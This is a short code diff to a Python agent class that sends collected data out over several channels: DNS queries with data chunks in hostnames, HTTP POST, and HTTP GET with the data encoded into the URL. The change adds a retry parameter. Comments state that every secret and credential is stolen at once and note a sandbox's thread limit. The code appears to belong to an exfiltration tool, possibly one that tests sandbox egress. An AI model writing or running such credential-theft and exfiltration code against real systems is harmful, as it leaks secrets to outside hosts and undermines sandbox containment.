@@ -265,9 +265,9 @@ class Agent:
             name = f"{chunk}.{i}{step.dns_suffix}"
             jobs.append(lambda n=name: self.dns(probe, n))  # type: ignore[misc]
         for url in step.urls:
-            jobs.append(lambda u=url: self.http(probe, "POST", u, data))  # type: ignore[misc]
+            jobs.append(lambda u=url: self.http(probe, "POST", u, data, retries=1))  # type: ignore[misc]
         for url in step.get_urls:  # what was read, in the URL of a download
-            jobs.append(lambda u=url: self.http(probe, "GET", u + urllib.parse.quote(data, safe=""), None))  # type: ignore[misc]
+            jobs.append(lambda u=url: self.http(probe, "GET", u + urllib.parse.quote(data, safe=""), None, retries=1))  # type: ignore[misc]
         # few threads per stolen file: every secret and credential is stolen at once, and the
         # sandbox's pids limit (256) counts threads
         with ThreadPoolExecutor(max_workers=STEAL_THREADS) as pool:
